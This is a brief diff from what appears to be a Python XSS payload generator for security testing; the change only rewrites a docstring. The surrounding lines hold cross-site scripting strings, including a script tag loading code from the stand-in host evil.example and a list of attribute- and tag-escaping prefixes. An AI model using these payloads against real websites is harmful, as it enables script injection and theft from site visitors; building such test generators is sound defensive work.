@@ -35,7 +35,7 @@ _RUN = (
     "<script src=//evil.example/x></script>", "<x onclick=pwned()>",
 )  # fmt: skip
 _OUT = ("", '"', "'", '">', "'>", "-->", "]]>", "</script>", "</style>", "</textarea>", "</title>", "</details>", "\"'><!--")
-"""What leaves the place a text may stand in: an attribute, a comment, an element."""
+"""Prefixes that escape from an attribute, a comment or an element."""
 
 
 def payloads() -> list[str]:
